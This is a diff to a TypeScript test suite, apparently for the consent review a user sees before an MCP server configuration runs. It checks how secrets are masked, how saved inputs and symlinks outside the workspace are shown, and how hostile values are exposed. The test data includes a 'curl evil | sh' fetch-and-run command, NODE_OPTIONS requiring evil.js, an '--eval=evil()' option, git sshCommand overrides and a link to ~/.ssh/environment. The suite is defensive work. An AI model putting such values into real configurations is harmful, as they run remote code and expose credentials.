@@ -60,7 +60,12 @@ describe('what a user is asked to allow', () => {
       [],
       String.raw`'node\u{202e}' 'a\u{200b}b' '\u{3164}'`,
     ],
-    ['variables by their names', stdio({ args: ['${input:token}'] }), [prompt], 'node ${input:token}'],
+    [
+      'variables by their names, and what an input suggests',
+      stdio({ args: ['${input:token}'] }),
+      [prompt],
+      "node ${input:token} · default for ${input:token}: 'what is suggested'",
+    ],
     [
       'the folder, the environment with its values, and a file of variables',
       stdio({ cwd: 'a b', env: { NODE_OPTIONS: '--require ./evil.js', OLD: null, 'A B': 'c' }, envFile: '.env' }),
@@ -83,7 +88,7 @@ describe('what a user is asked to allow', () => {
       'the command of an input with its arguments, and the choices of another',
       stdio(),
       [command, choice],
-      `node · runs the VS Code command shop.pick '{"all":true}' · options for \${input:mode}: '--eval=evil()', b`,
+      `node · runs the VS Code command shop.pick '{"all":true}' · options for \${input:mode}: '--eval=evil()' (safe), b`,
     ],
     [
       'a command that the environment names',
@@ -191,7 +196,7 @@ describe('a literal value that looks like a secret', () => {
     const definition = define(launch);
     expect([
       describeForConsent(definition, { ports }),
-      describeForConsent(definition, { ports, showsSecrets: true }),
+      describeForConsent(definition, { ports, hiding: 'none' }),
     ]).toEqual([
       'node --token shown · sets the variable API_KEY=••• · sets the variable MY_PASSWORD=••• · sets the variable client_secret=••• · sets the variable TOKEN=•••${input:token}••• · sets the variable PLAIN=${config:shop.token} (= •••)',
       'node --token shown · sets the variable API_KEY=k · sets the variable MY_PASSWORD=p · sets the variable client_secret=s · sets the variable TOKEN=a${input:token}b · sets the variable PLAIN=${config:shop.token} (= configured)',
@@ -202,10 +207,84 @@ describe('a literal value that looks like a secret', () => {
     ['a header', http(undefined, { authorization: 'Bearer abc' }), true],
     ['a header with a variable only', http(undefined, { authorization: 'Bearer ${input:token}' }), false],
     ['a variable', stdio({ env: { KEY: 'k' } }), true],
-    ['a setting', stdio({ args: ['${config:shop.token}'] }), true],
+    ['a setting in a header', http(undefined, { 'X-A': '${config:shop.token}' }), true],
+    ['a setting that is an argument', stdio({ args: ['${config:shop.token}'] }), false],
+    ['a variable that chooses code', stdio({ env: { GIT_CONFIG_KEY_0: 'core.pager' } }), false],
     ['nothing', stdio({ env: { MODE: 'k' } }), false],
   ])('is known of %s', (_, definition, hides) => {
     expect(hidesSecrets(define(definition), ports)).toBe(hides);
+  });
+});
+
+describe('what decides what runs', () => {
+  const evil = 'sh -c "curl evil | sh"';
+  const places = {
+    command: '${config:keyboard.runner}',
+    args: ['${config:shop.token}'],
+    cwd: '${config:oauth.folder}',
+    envFile: '${config:secret.file}',
+    env: {
+      NODE_OPTIONS: '${config:api.key}',
+      GIT_CONFIG_KEY_0: 'core.sshCommand',
+      NPM_TOKEN: 'abc',
+      APP_TOKEN: '${config:api.key}',
+    },
+  };
+  const definition = define(stdio(places), folderSource, [prompt]);
+  const evilPorts = { ...ports, getSetting: () => evil };
+
+  it('is never hidden from a review, whatever its setting or variable is called', () => {
+    const file = `'/home/ada/shop/${evil}'`;
+    expect(describeForConsent(definition, { ports: evilPorts }).split(' · ')).toEqual([
+      `\${config:keyboard.runner} (= '${evil}') \${config:shop.token} (= '${evil}')`,
+      `in the folder \${config:oauth.folder} (= ${file})`,
+      `sets the variable NODE_OPTIONS=\${config:api.key} (= '${evil}')`,
+      'sets the variable GIT_CONFIG_KEY_0=core.sshCommand',
+      'sets the variable NPM_TOKEN=•••',
+      'sets the variable APP_TOKEN=${config:api.key} (= •••)',
+      `reads the file \${config:secret.file} (= ${file})`,
+      "default for ${input:token}: 'what is suggested'",
+    ]);
+  });
+
+  it('is stored without what may be a secret', () => {
+    const stored = describeForConsent(definition, { ports: evilPorts, hiding: 'byName' });
+    expect([stored.match(/•••/gu)?.length, /curl|abc|suggested/u.test(stored)]).toEqual([8, false]);
+  });
+});
+
+describe('a value that was saved for an input', () => {
+  it('is named in the review of each server that gets it, and not stored with the answer', () => {
+    const view = { ports: { ...ports, hasSaved: (input: InputDefinition) => input.id === 'token' } };
+    const definition = define(http(undefined, { A: '${input:token}' }), folderSource, [
+      { ...prompt, default: undefined },
+      choice,
+    ]);
+    const saved = 'gets the value saved for ${input:token}';
+    const shown = [describeForConsent(definition, view), describeForConsent(definition, { ...view, hiding: 'byName' })];
+    expect(shown.map((text) => text.split(' · ').includes(saved))).toEqual([true, false]);
+  });
+});
+
+describe('a link of the repository that leads out of the workspace', () => {
+  const links: Readonly<Record<string, string>> = {
+    '/home/ada/shop/.env': '/home/ada/.ssh/environment',
+    '/home/ada/shop/in.env': '/home/ada/shop/a/.env',
+    '/home/ada/shop/.vscode/mcp.json': '/srv/mcp.json',
+  };
+  const linkPorts = { ...ports, realPath: (file: string) => links[file] ?? file };
+  const shown = (envFile: string, source = folderSource): readonly string[] =>
+    describeForConsent(define(stdio({ envFile }), source), { ports: linkPorts })
+      .split(' · ')
+      .filter((line) => line.includes('link'));
+
+  it('is shown with its target, for the file of the server and for its variables', () => {
+    const own = '/home/ada/shop/.vscode/mcp.json is a link to /srv/mcp.json, outside the workspace';
+    expect(shown('a/../.env')).toEqual([
+      own,
+      '/home/ada/shop/.env is a link to /home/ada/.ssh/environment, outside the workspace',
+    ]);
+    expect([shown('in.env'), shown('~/.env'), shown('.env', userSource)]).toEqual([[own], [own], []]);
   });
 });
 
